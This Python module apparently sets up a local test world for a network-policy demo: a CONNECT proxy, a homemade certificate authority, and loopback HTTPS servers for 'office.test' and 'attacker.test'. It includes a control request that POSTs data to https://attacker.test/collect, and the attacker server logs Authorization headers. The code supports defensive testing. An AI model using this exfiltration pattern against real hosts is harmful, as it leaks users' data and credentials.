"""The world outside, for the second act: named servers with TLS, all of them on this machine.

A company's proxy (`[network] proxy` in the policy) stands for the Internet. Whatever name it is asked
for, it leads to one of two servers here: the association's own, or, for every other name, the
attacker's. So the program asks for real names with `https`, and no packet leaves the loopback.
The servers' certificates come from an authority made here, which the policy names (`[network] ca`).
"""

from __future__ import annotations

import contextlib
import datetime
import json
import socket
import ssl
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

OWN, ATTACKER = "office.test", "attacker.test"


class Server(ThreadingHTTPServer):
    """Answers each request, and counts it."""

    daemon_threads = True

    def __init__(self, context: ssl.SSLContext) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.requests: Counter[str] = Counter()
        self.keys: set[str] = set()
        self.socket = context.wrap_socket(
            self.socket, server_side=True, do_handshake_on_connect=False
        )
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def handle_error(self, *_: Any) -> None:
        """A client that goes away is no news."""


class Handler(BaseHTTPRequestHandler):
    server: Server
    protocol_version = "HTTP/1.1"

    def answer(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.requests[f"{self.command} {self.path}"] += 1
        self.server.keys.add(self.headers.get("Authorization", ""))
        body = json.dumps({"EUR_GBP": "0.8431"}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = answer

    def log_message(self, *_: object) -> None:
        """Silence: the demo's own screen says what arrived."""


class World:
    """Both servers, and the proxy in front of them. `asked` is what the proxy was asked for."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(mode=0o755)
        self.ca = folder / "company.pem"
        context = _certificates(folder, self.ca)
        self.own, self.attacker = Server(context), Server(context)
        self.asked: list[str] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.proxy = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def attacker_answers(self) -> bool:
        """The control: is it there for somebody who is not held back, and would it have counted?"""
        import requests

        before = self.attacker.requests.total()
        got = requests.post(
            f"https://{ATTACKER}/collect",
            data=b"control",
            proxies={"https": self.proxy},
            verify=str(self.ca),
            timeout=20,
        )
        return got.ok and self.attacker.requests.total() == before + 1

    def _accept(self) -> None:
        while True:
            client, _ = self._listener.accept()
            threading.Thread(target=self._tunnel, args=(client,), daemon=True).start()

    def _tunnel(self, client: socket.socket) -> None:
        with contextlib.suppress(OSError), client:
            client.settimeout(60)
            head = b""
            while not head.endswith(b"\r\n\r\n"):
                if not (piece := client.recv(1)):
                    return
                head += piece
            target = head.split()[1].decode("latin-1")
            self.asked.append(target)
            server = self.own if target.startswith(f"{OWN}:") else self.attacker
            with socket.create_connection(server.server_address[:2], timeout=60) as inner:
                client.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
                back = threading.Thread(target=_copy, args=(inner, client), daemon=True)
                back.start()
                _copy(client, inner)
                back.join(60)


def _copy(source: socket.socket, sink: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)


def _certificates(folder: Path, authority: Path) -> ssl.SSLContext:
    """A server's context with a certificate for both names; who vouches for it goes to `authority`."""
    now = datetime.datetime.now(datetime.UTC)
    root_key, key = (ec.generate_private_key(ec.SECP256R1()) for _ in range(2))
    root_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "the demo's company")])

    def builder(name: x509.Name, public: ec.EllipticCurvePublicKey) -> x509.CertificateBuilder:
        return (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(root_name)
            .public_key(public)
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1))
            .not_valid_after(now + datetime.timedelta(hours=3))
        )

    root = (
        builder(root_name, root_key.public_key())
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), True)
        .sign(root_key, hashes.SHA256())
    )
    names = x509.SubjectAlternativeName([x509.DNSName(name) for name in (OWN, ATTACKER)])
    leaf = (
        builder(x509.Name([]), key.public_key())
        .add_extension(names, True)
        .sign(root_key, hashes.SHA256())
    )
    authority.write_bytes(root.public_bytes(serialization.Encoding.PEM))
    authority.chmod(0o644)
    chain = folder / "server.pem"
    private = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    chain.write_bytes(leaf.public_bytes(serialization.Encoding.PEM) + private)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(chain)
    return context
